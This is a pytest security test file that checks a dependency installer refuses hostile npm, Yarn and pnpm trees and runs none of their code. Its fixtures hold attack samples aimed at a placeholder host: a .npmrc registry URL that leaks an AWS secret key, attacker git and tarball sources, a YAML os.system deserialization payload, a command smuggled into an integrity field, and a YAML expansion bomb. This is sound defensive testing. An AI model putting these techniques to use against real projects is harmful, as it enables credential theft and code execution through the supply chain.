"""Row 1, without a package-lock.json: a package.json, a yarn.lock and a pnpm-lock.yaml run nothing.

npm resolves a package.json without a lock file from the user's registry only. The locks of Yarn and pnpm name
packages of registries; their settings, plugins and patches are not used.
"""

import json
import shutil
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.code.package.trees import write
from tests.security.bait import SECRET, Machine, machine
from workbench.code.dependencies.declared import find_declaration
from workbench.code.dependencies.npm import _guard, find_npm
from workbench.code.dependencies.store import Installed
from workbench.code.dependencies.tool_process import npm_environment, run_tool
from workbench.core.errors import WorkbenchError
from workbench.core.jobs import JobContext

pytestmark = pytest.mark.skipif(not shutil.which("npm"), reason="npm is not on this computer")
EVIL_GIT = "git+@EVIL@/x.git"
SCRIPTS = dict.fromkeys(("preinstall", "install", "postinstall", "prepare"), "touch @RAN@/script")
Files = dict[str, str]


@pytest.fixture
def pc(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Machine]:
    with machine(tmp_path, monkeypatch) as made:
        write(tmp_path / "outside", {"package.json": '{"name": "x", "version": "1.0.0"}', "key.js": ""})
        scripts = {name: made.fill(each) for name, each in SCRIPTS.items()}
        for registry in (made.index, made.evil):
            registry.publish("a", "1.0.0", scripts=scripts)
            registry.publish("b", "1.2.0", dependencies={"a": "^1.0.0"})
            registry.publish("cloner", dependencies={"x": made.fill(EVIL_GIT)})
            registry.publish("grabber", dependencies={"y": f"{made.evil.url}/y.tgz"})
            registry.publish("reader", dependencies={"y": "file:../../../outside"})
            registry.publish("optional", optionalDependencies={"x": made.fill(EVIL_GIT)})
            registry.publish("peer", peerDependencies={"x": f"{made.evil.url}/y.tgz"})
            registry.publish("hidden", dependencies={"a": "npm:grabber@1.0.0"})
        yield made


def package(dependencies: dict[str, str], **more: object) -> Files:
    return {
        "package.json": json.dumps({"name": "fn", "version": "1.0.0", "dependencies": dependencies, **more})
    }


def yarn(dependencies: dict[str, str], lock: str, **more: object) -> Files:
    return package(dependencies, **more) | {"yarn.lock": f"# yarn lockfile v1\n\n{lock}"}


def berry(dependencies: dict[str, str], lock: str, **more: object) -> Files:
    return package(dependencies, **more) | {"yarn.lock": f"__metadata:\n  version: 8\n\n{lock}"}


def pnpm(dependencies: dict[str, str], lock: str, **more: object) -> Files:
    return package(dependencies, **more) | {"pnpm-lock.yaml": f"lockfileVersion: '9.0'\n\n{lock}"}


def pnpm_x(version: str, resolution: str, name: str = "x") -> str:
    return (
        "importers:\n  .:\n    dependencies:\n      x:\n        specifier: 1.0.0\n"
        f"        version: {version}\npackages:\n  '{name}@{version}':\n    resolution: {resolution}\n"
        f"snapshots:\n  '{name}@{version}': {{}}\n"
    )


X = {"x": "1.0.0"}
LOOP = "importers: &a\n  .: *a\n"
BOMB = "".join(f"l{n}: &l{n} [{', '.join([f'*l{n - 1}'] * 9) if n else 1}]\n" for n in range(9))
REFUSED: dict[str, tuple[Files, str]] = {
    "a repository": (package({"x": EVIL_GIT}), "package.json takes x from git+http"),
    "a repository, shortened": (package({"x": "github:someone/x"}), "takes x from github:someone/x"),
    "an archive": (package({"x": "@EVIL@/x.tgz"}), "package.json takes x from http"),
    "a file": (package({"x": "file:x.tgz"}), "takes x from file:x.tgz"),
    "a folder outside": (package({"x": "file:../outside"}), "from a folder outside the project"),
    "a link outside": (package({"x": "link:../outside"}), "from a folder outside the project"),
    "a folder by a link": (package({"x": "file:linked"}), "from a folder outside the project"),
    "the code itself": (package({"x": "file:."}), "that contains the code"),
    "a workspace": (package({"x": "workspace:*"}), "takes x from workspace:*"),
    "another name for a repository": (package({"x": f"npm:y@{EVIL_GIT}"}), "takes x from npm:y@git"),
    "a name that is a path": (package({"../x": "1.0.0"}), "takes ../x from"),
    "a name that is an option": (package({"--git=@TRAPS@/git": "1.0.0"}), "takes --git"),
    "overrides of a repository": (package({"b": "1"}, overrides={"a": EVIL_GIT}), "takes a from git+http"),
    "overrides within others": (
        package({"b": "1"}, overrides={"b": {"a": {".": "@EVIL@/a.tgz"}}}),
        "takes . from http",
    ),
    "overrides of a folder": (package({"b": "1"}, overrides={"a": "file:../outside"}), "takes a from file:"),
    "a package that needs a repository": (package({"cloner": "1"}), "from a repository or a URL"),
    "a package that needs an archive": (package({"grabber": "1"}), "from a repository or a URL"),
    "a package that needs that behind another name": (package({"hidden": "1"}), "from a repository or a URL"),
    "a peer from an archive": (package({"peer": "1"}), "takes x from http"),
    "an optional repository": (package({"optional": "1"}), "takes x from git+http"),
    "a package that needs a file": (package({"reader": "1"}), ""),
    "a package that is nowhere": (package({"nowhere": "1"}), "does not exist in the registry"),
    "yarn: an archive": (
        yarn(X, f'x@1.0.0:\n  version "1.0.0"\n  resolved "@EVIL@/x.tgz#{"0" * 40}"\n'),
        "which is not one of your registries",
    ),
    "yarn: a repository": (yarn({"x": EVIL_GIT}, ""), "package.json takes x from git+http"),
    "yarn: a repository in the lock only": (
        yarn(X, f'x@1.0.0:\n  version "1.0.0"\n  resolved "{EVIL_GIT}#0123"\n'),
        "takes x from git+http",
    ),
    "yarn: an archive of another package": (
        yarn(
            X,
            'x@1.0.0:\n  version "1.0.0"\n  resolved "@EVIL@/y/-/y-1.0.0.tgz"\n'
            "  integrity sha512-AAAA\n",
        ),
        "not one of your registries",
    ),
    "yarn: a repository below": (
        yarn({"b": "1"}, f'b@1:\n  version "1.2.0"\n  dependencies:\n    y "{EVIL_GIT}"\n'),
        "does not contain y@git+http",
    ),
    "yarn: a name that is a path": (
        yarn(
            {"b": "1"},
            'b@1:\n  version "1.2.0"\n  dependencies:\n    "../y" "1"\n'
            '"../y@1":\n  version "1.0.0"\n',
        ),
        "which is not in a node_modules folder",
    ),
    "yarn: a version that is an address": (
        yarn(X, f'x@1.0.0:\n  version "{EVIL_GIT}"\n'),
        "does not specify a registry version",
    ),
    "yarn: another name that is a path": (
        yarn({"x": "npm:y@1.0.0"}, '"x@npm:y@1.0.0", "x@npm:../../y@1.0.0":\n  version "../1"\n'),
        "does not specify a registry version",
    ),
    "yarn: a folder outside": (
        yarn({"x": "file:../outside"}, '"x@file:../outside":\n  version "1.0.0"\n'),
        "from a folder outside the project",
    ),
    "yarn: a resolution": (
        yarn({"b": "1"}, 'b@1:\n  version "1.2.0"\n  dependencies:\n    a "^1.0.0"\n'
             f'"a@{EVIL_GIT}":\n  version "1.0.0"\n'
             f'  resolved "{EVIL_GIT}"\n', resolutions={"a": EVIL_GIT}),
        "takes a from git+http",
    ),
    "yarn: lines that are none": (yarn(X, "x@1.0.0:\n      version 1\n"), "yarn.lock is malformed: line 4"),
    "yarn: a lock without the package": (yarn(X, 'y@1:\n  version "1.0.0"\n'), "does not contain x@1.0.0"),
    "berry: a repository": (
        berry(X, f'"x@npm:1.0.0":\n  version: 1.0.0\n  resolution: "x@{EVIL_GIT}#commit=1"\n'),
        "takes x from git+http",
    ),
    "berry: a patch": (
        berry({"x": "patch:x@npm%3A1.0.0#./evil.patch"}, ""),
        "package.json takes x from patch:",
    ),
    "berry: code that makes a package": (
        berry(
            {"x": "exec:./evil.js"},
            '"x@exec:./evil.js":\n  version: 1.0.0\n  resolution: "x@exec:./evil.js"\n',
        ),
        "takes x from exec:./evil.js",
    ),
    "berry: code in the lock only": (
        berry(X, '"x@npm:1.0.0":\n  version: 1.0.0\n  resolution: "x@exec:./evil.js#./evil.js::hash=1"\n'),
        "takes x from exec:",
    ),
    "berry: a workspace outside": (
        berry({"x": "portal:../outside"}, '"x@portal:../outside":\n  version: 0.0.0-use.local\n'),
        "from a folder outside the project",
    ),
    "berry: references": (berry(X, LOOP), "yarn.lock is malformed"),
    "pnpm: a bomb": (pnpm(X, BOMB), "pnpm-lock.yaml is malformed"),
    "pnpm: a reference to itself": (pnpm(X, LOOP), "pnpm-lock.yaml is malformed"),
    "pnpm: depth": (pnpm(X, f"x: {'[' * 5000}{']' * 5000}\n"), "pnpm-lock.yaml is malformed"),
    "pnpm: a type of Python": (
        pnpm(X, "importers: !!python/object/apply:os.system ['touch @RAN@/yaml']\n"),
        "does not contain x",
    ),
    "pnpm: an archive": (pnpm(X, pnpm_x("1.0.0", "{tarball: '@EVIL@/x.tgz'}")), "not one of your registries"),
    "pnpm: an archive with a hash": (
        pnpm(X, pnpm_x("1.0.0", "{integrity: sha512-AAAA, tarball: '@EVIL@/x.tgz'}")),
        "not one of your registries",
    ),
    "pnpm: a repository": (
        pnpm(X, pnpm_x("1.0.0", f"{{type: git, repo: '{EVIL_GIT}', commit: '1'}}")),
        "takes x from git+http",
    ),
    "pnpm: a folder of the lock": (
        pnpm(X, pnpm_x("1.0.0", "{type: directory, directory: ../outside}")),
        "takes x from ../outside",
    ),
    "pnpm: a link outside": (pnpm({"x": "link:../outside"}, pnpm_x("1.0.0", "{}")), "outside the project"),
    "pnpm: a link outside in the lock only": (
        pnpm(X, pnpm_x("link:../outside", "{}")),
        "from a folder outside the project",
    ),
    "pnpm: a version that is an address": (pnpm(X, pnpm_x("@EVIL@/x.tgz", "{}")), "registry version for x"),
    "pnpm: a hash that is none": (
        pnpm(X, pnpm_x("1.0.0", "{integrity: '; touch @RAN@/hash'}")),
        "the integrity of x is not a hash",
    ),
    "pnpm: another lock": (
        pnpm({"x": "2.0.0"}, pnpm_x("1.0.0", "{}")),
        "does not match the current package.json",
    ),
    "pnpm: a circle of versions without an end": (
        pnpm(
            X,
            "importers:\n  .:\n    dependencies:\n      x: {specifier: 1.0.0, version: 1.0.0}\n"
            "packages: {x@1.0.0: {}, x@2.0.0: {}, y@1.0.0: {}, y@2.0.0: {}, x@3.0.0: {}}\nsnapshots:\n"
            "  x@1.0.0: {dependencies: {y: 1.0.0, x: 2.0.0}}\n"
            "  y@1.0.0: {dependencies: {x: 2.0.0, y: 2.0.0}}\n"
            "  x@2.0.0: {dependencies: {y: 2.0.0, x: 3.0.0}}\n"
            "  y@2.0.0: {dependencies: {x: 1.0.0, y: 1.0.0}}\n"
            "  x@3.0.0: {dependencies: {x: 1.0.0, y: 2.0.0}}\n",
        ),
        "without an end",
    ),
}  # fmt: skip
"""Trees that are refused, and words of the refusal."""


@pytest.mark.parametrize("name", REFUSED)
def test_a_hostile_tree_is_refused(pc: Machine, name: str) -> None:
    files, words = REFUSED[name]
    pc.write(files | {"evil.js": "require('fs').writeFileSync('@RAN@/evil', '')\n"})
    (pc.code / "linked").symlink_to(pc.folder / "outside")
    refusal = pc.install("nodejs22.x")
    assert pc.harm() == []
    assert isinstance(refusal, WorkbenchError), refusal.found
    assert words in refusal.why
    assert SECRET not in str(refusal)
    assert not list(pc.folder.glob("store/[!.]*"))


HARMLESS: dict[str, Files] = {
    "scripts": package({"a": "1"}, scripts=SCRIPTS),
    "a registry": package({"a": "1"}) | {".npmrc": "registry=@EVIL@/${AWS_SECRET_ACCESS_KEY}/\n"},
    "a program for git": package({"a": "1"}) | {".npmrc": "git=@TRAPS@/make\nignore-scripts=false\n"},
    "options of node": package({"a": "1"})
    | {
        ".npmrc": "node-options=--require=./evil.js\n",
        "evil.js": "require('fs').writeFileSync('@RAN@/n', '')\n",
    },
    "for development": package({"a": "1"}, devDependencies={"d": EVIL_GIT, "e": "@EVIL@/e.tgz"}),
    "workspaces": package({"a": "1"}, workspaces=["../outside", "x"]),
    "bundled packages": package({"a": "1"}, bundleDependencies=["../outside"]),
    "engines and package managers": package(
        {"a": "1"},
        packageManager="evil@1+sha512.0",
        engines={"node": "0"},
        publishConfig={"registry": "@EVIL@"},
    ),
    "resolutions of Yarn": package({"a": "1"}, resolutions={"a": EVIL_GIT}),
    "overrides of pnpm": package({"a": "1"}, pnpm={"overrides": {"a": EVIL_GIT}}),
    "yarn: settings": yarn({"a": "1"}, 'a@1:\n  version "1.0.0"\n')
    | {".yarnrc": 'yarn-path "./evil.js"\nregistry "@EVIL@"\n', "evil.js": "x"},
    "berry: plugins": berry({"a": "1"}, '"a@npm:1":\n  version: 1.0.0\n  resolution: "a@npm:1.0.0"\n')
    | {
        ".yarnrc.yml": "yarnPath: ./evil.js\nplugins: [./evil.js]\nnpmRegistryServer: '@EVIL@'\n",
        ".pnp.cjs": "require('fs').writeFileSync('@RAN@/pnp', '')\n",
    },
    "pnpm: hooks": pnpm(
        {"a": "1"},
        "importers:\n  .:\n    dependencies:\n      a: {specifier: '1', version: 1.0.0}\n"
        "packages: {a@1.0.0: {}}\nsnapshots: {a@1.0.0: {}}\n",
    )
    | {
        ".pnpmfile.cjs": "require('fs').writeFileSync('@RAN@/pnpm', '')\n",
        "pnpm-workspace.yaml": "packages: ['..']",
    },
}
"""Trees with something that no tool sees; the rest is installed."""


@pytest.mark.parametrize("name", HARMLESS)
def test_what_else_lies_in_a_tree_chooses_nothing(pc: Machine, name: str) -> None:
    pc.write(HARMLESS[name])
    installed = pc.install("nodejs22.x")
    assert isinstance(installed, Installed), installed
    assert pc.harm() == []
    assert ("a", "1.0.0") in installed.found.packages
    assert (installed.root / "node_modules/a/index.js").is_file()


def test_a_folder_of_the_project_is_packed_without_its_scripts_and_secrets(pc: Machine) -> None:
    about = {"name": "own", "version": "1.0.0", "scripts": SCRIPTS, "dependencies": {"b": "^1.0.0"}}
    pc.write(
        package({"own": "file:./own"})
        | {
            "own/package.json": json.dumps(about),
            "own/index.js": "",
            "own/.env": f"KEY={SECRET}\n",
            "own/node_modules/z/index.js": "",
        }
    )
    installed = pc.install("nodejs22.x")
    assert isinstance(installed, Installed), installed
    assert pc.harm() == []
    assert {name for name, __ in installed.found.packages} == {"own", "a", "b"}
    own = {path for path in installed.found.paths if path.startswith("node_modules/own/")}
    assert own == {"node_modules/own/index.js", "node_modules/own/package.json"}


def test_the_guard_alone_keeps_an_older_npm_from_other_hosts_and_programs(
    pc: Machine, tmp_path: Path
) -> None:
    """Npm before 11 has no setting that refuses archives and repositories."""
    for name, words in (("grabber", "asking"), ("cloner", "starting")):
        scratch = tmp_path / name
        write(scratch, {"package.json": json.dumps({"dependencies": {name: "1"}})})
        host = pc.index.url.removeprefix("http://")
        ended = run_tool(
            [find_npm(), "install", "--package-lock-only", "--ignore-scripts"],
            scratch,
            JobContext(),
            environment=npm_environment() | _guard({host}),
        )
        assert ended.status != 0
        assert f"{words} " in ended.text
    assert pc.harm() == []


def test_what_was_resolved_is_not_resolved_again(pc: Machine) -> None:
    pc.write(package({"a": "1"}))
    assert isinstance(pc.install("nodejs22.x"), Installed)
    declared = find_declaration(pc.code, "nodejs")
    assert declared is not None
    lock = pc.store.resolution(declared.digest)
    pc.index.publish("a", "1.1.0")
    again = pc.install("nodejs20.x")
    assert isinstance(again, Installed)
    assert again.found.packages == (("a", "1.0.0"),)
    assert pc.store.resolution(declared.digest) == lock
